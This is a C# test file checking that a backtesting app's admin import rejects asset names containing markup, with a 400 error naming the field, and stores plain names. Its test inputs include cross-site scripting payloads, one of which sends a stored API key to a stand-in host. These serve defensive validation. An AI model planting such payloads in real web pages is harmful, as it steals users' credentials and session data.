using System.Net;
using Backtesting.Local.Tests.Support;

namespace Backtesting.Local.Tests;

/// <summary>The admin import accepts only plain asset names (AssetNames): markup is a 400 naming the field, and nothing is stored.</summary>
public sealed class AssetImportNameValidationTests(SqliteHostFixture fixture) : IClassFixture<SqliteHostFixture>
{
    private const string Csv = "Date,Open,High,Low,Close,Volume\n2024-01-02,10,11,9,10.5,100\n2024-01-03,10.5,12,10,11.5,120\n";

    [Theory]
    [InlineData("<img src=x onerror=alert(document.cookie)>")]
    [InlineData("Acme\" onmouseover=\"x")]
    [InlineData("<script>fetch('//evil.example/'+localStorage.getItem('backtesting.apiKey'))</script>")]
    [InlineData(" leading space")]
    public async Task Import_NameWithMarkupOrBadShape_Is400NamingTheFieldAndStoresNothing(string name)
    {
        var admin = await fixture.Factory.CreateUserClientAsync("admin-" + Guid.NewGuid().ToString("N")[..6], admin: true);
        string symbol = "XN" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();

        var (status, problem) = await admin.PostRawAsync($"/api/assets/{symbol}/bars?name={Uri.EscapeDataString(name)}", Csv, "text/csv");

        Assert.Equal(HttpStatusCode.BadRequest, status);
        var error = Assert.Single(problem!["errors"]!.AsArray());
        Assert.Equal("name", (string)error!["field"]!);
        Assert.Contains("letters, digits, space and . , ' & ( ) - _ / : +", (string)error["message"]!);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync($"/api/assets/{symbol}/bars")).StatusCode);
    }

    [Fact]
    public async Task Import_NameTooLong_Is400()
    {
        var admin = await fixture.Factory.CreateUserClientAsync("admin-" + Guid.NewGuid().ToString("N")[..6], admin: true);
        var (status, problem) = await admin.PostRawAsync($"/api/assets/XLONG/bars?name={new string('a', 101)}", Csv, "text/csv");
        Assert.Equal(HttpStatusCode.BadRequest, status);
        Assert.Equal("name", (string)problem!["errors"]![0]!["field"]!);
    }

    [Fact]
    public async Task Import_PlainNameWithPunctuation_IsStoredAsGiven()
    {
        var admin = await fixture.Factory.CreateUserClientAsync("admin-" + Guid.NewGuid().ToString("N")[..6], admin: true);
        string symbol = "XP" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        const string name = "AT&T Inc. (Class A) - O'Neil/Société: 100% + co"; // '%' is not allowed: rejected below

        var (rejected, _) = await admin.PostRawAsync($"/api/assets/{symbol}/bars?name={Uri.EscapeDataString(name)}", Csv, "text/csv");
        Assert.Equal(HttpStatusCode.BadRequest, rejected);

        string accepted = name.Replace("100% ", "", StringComparison.Ordinal);
        var (status, _) = await admin.PostRawAsync($"/api/assets/{symbol}/bars?name={Uri.EscapeDataString(accepted)}", Csv, "text/csv");
        Assert.Equal(HttpStatusCode.OK, status);
        var assets = (await admin.GetJsonAsync("/api/assets")).AsArray();
        Assert.Equal(accepted, (string)assets.Single(a => (string)a!["symbol"]! == symbol)!["name"]!);
    }
}
